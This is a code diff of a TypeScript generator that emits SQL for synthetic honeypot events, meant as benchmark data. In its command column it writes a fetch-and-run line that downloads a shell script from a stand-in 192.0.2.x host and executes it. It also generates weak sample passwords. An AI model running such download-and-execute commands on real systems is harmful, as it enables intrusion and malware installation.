@@ -33,7 +33,7 @@ export const generated_sensors: readonly { name: string; type: string }[] = (
 );
 
 const day_s = 86_400;
-const year_s = 365 * day_s;
+export const year_s = 365 * day_s;
 /** Numbers that make one session; a scan's are eight sources of one event each. */
 const session_events = 8;
 
@@ -106,14 +106,31 @@ export interface Generation {
 }
 
 /** A number in [0, 1) that depends on `key` and on nothing else but the seed. */
-const uniform = (seed: number, what: string, key: string): string =>
+export const uniform = (seed: number, what: string, key: string): string =>
   `(cityHash64(${seed}, '${what}', ${key}) / 18446744073709551616.)`;
 
 /** The rank of a value, small ones often, by the cardinality of its name. */
-const rank = (seed: number, name: keyof typeof cardinalities, key: string): string => {
+export const rank = (seed: number, name: keyof typeof cardinalities, key: string): string => {
   const { count, skew } = cardinalities[name];
   return `toUInt32(floor(${count} * pow(${uniform(seed, name, key)}, ${skew})))`;
 };
+
+/** What is known of the source of a rank, which stands in the SQL as `source_rank`. */
+export function sourceColumns(seed: number): { address: string; country: string; asn: string } {
+  const near = 'intDiv(source_rank * 48271, 256)';
+  const country = rank(seed, 'countries', near);
+  return {
+    // IPv4 as far as the range for benchmarks reaches; the rarest sources have IPv6.
+    address:
+      "if(source_rank < 131072, toIPv6(toIPv4(toUInt32(3323068416 + (source_rank * 48271) % 131072))), toIPv6(concat('2001:db8::', lower(hex(source_rank % 65536)))))",
+    country: `concat(char(65 + ${country} % 26), char(65 + intDiv(${country} * 7, 26) % 26))`,
+    asn: `toUInt32(4200000000 + ${rank(seed, 'systems', near)})`,
+  };
+}
+
+/** The password of a rank, which stands in the SQL as `password_rank`. */
+export const password_sql =
+  "multiIf(password_rank = 0, '123456', password_rank % 3 = 0, concat('Passw0rd!', toString(password_rank)), password_rank % 3 = 1, toString(100000 + password_rank), lower(hex(cityHash64('password', password_rank))))";
 
 /** What the values of one event are reckoned from. */
 function intermediateColumns({ seed, events, end_ms, sensor_ids, visit_events }: Generation): string {
@@ -147,11 +164,8 @@ function intermediateColumns({ seed, events, end_ms, sensor_ids, visit_events }:
 
 /** One expression for each column that is not left at its default. */
 function valueColumns({ seed }: Generation): Record<string, string> {
-  const country = rank(seed, 'countries', 'intDiv(source_rank * 48271, 256)');
   const known_ports = Object.keys(ports);
-  const address =
-    // IPv4 as far as the range for benchmarks reaches; the rarest sources have IPv6.
-    "if(source_rank < 131072, toIPv6(toIPv4(toUInt32(3323068416 + (source_rank * 48271) % 131072))), toIPv6(concat('2001:db8::', lower(hex(source_rank % 65536)))))";
+  const { address, country, asn } = sourceColumns(seed);
   return {
     event_id: `cityHash64(${seed}, 'event', n)`,
     sensor_id: 'sensor',
@@ -169,8 +183,8 @@ function valueColumns({ seed }: Generation): Record<string, string> {
     outcome:
       "multiIf(what = 'authenticate' AND kind = 'shell', 'success', what = 'authenticate', 'failure', 'unknown')",
     attacker_ip: address,
-    attacker_country: `concat(char(65 + ${country} % 26), char(65 + intDiv(${country} * 7, 26) % 26))`,
-    attacker_asn: `4200000000 + ${rank(seed, 'systems', 'intDiv(source_rank * 48271, 256)')}`,
+    attacker_country: country,
+    attacker_asn: asn,
     source_ip: 'attacker_ip',
     source_port: `toUInt16(1024 + cityHash64(${seed}, 'port', session_number) % 64000)`,
     destination_ip: "toIPv6(concat('192.0.2.', toString(sensor_index + 1)))",
@@ -181,13 +195,15 @@ function valueColumns({ seed }: Generation): Record<string, string> {
     transport: "if(service_name IN ('sip', 'snmp', 'upnp', 'bacnet', 'ipmi'), 'udp', 'tcp')",
     session: `lower(hex(cityHash64(${seed}, 'session', session_number)))`,
     username: `multiIf(what != 'authenticate', '', ${uniform(seed, 'root', 'n')} < 0.6, 'root', username_rank = 0, 'admin', concat('user', toString(username_rank)))`,
-    password: `if(what != 'authenticate', '', multiIf(password_rank = 0, '123456', password_rank % 3 = 0, concat('Passw0rd!', toString(password_rank)), password_rank % 3 = 1, toString(100000 + password_rank), lower(hex(cityHash64('password', password_rank)))))`,
+    password: `if(what != 'authenticate', '', ${password_sql})`,
     command: `if(what != 'input', '', if(${uniform(seed, 'script', 'n')} < 0.7, ${list(script)}[1 + n % ${script.length}], concat('cd /tmp; wget http://192.0.2.', toString(command_rank % 250), '/', lower(hex(cityHash64('command', command_rank))), '.sh; sh x.sh')))`,
     url: "if(what = 'download', concat('http://192.0.2.', toString(command_rank % 250), '/bins.sh'), '')",
+    file_sha256: "if(what = 'download', lower(hex(SHA256(toString(command_rank % 2000)))), '')",
     fingerprint: "if(service_name = 'ssh' AND step = 1, lower(hex(MD5(toString(service_key % 300)))), '')",
     user_agent:
       "if(service_name = 'ssh' AND step = 1, concat('SSH-2.0-libssh_0.', toString(service_key % 300)), '')",
-    signature: "if(sensor_type = 'suricata', concat('invented rule ', toString(service_key % 500)), '')",
+    signature:
+      "if(sensor_type = 'suricata', concat('invented rule ', toString(service_key % 500), if(service_key % 20 = 0, concat(' CVE-2021-', toString(40000 + service_key % 500)), '')), '')",
   };
 }
 
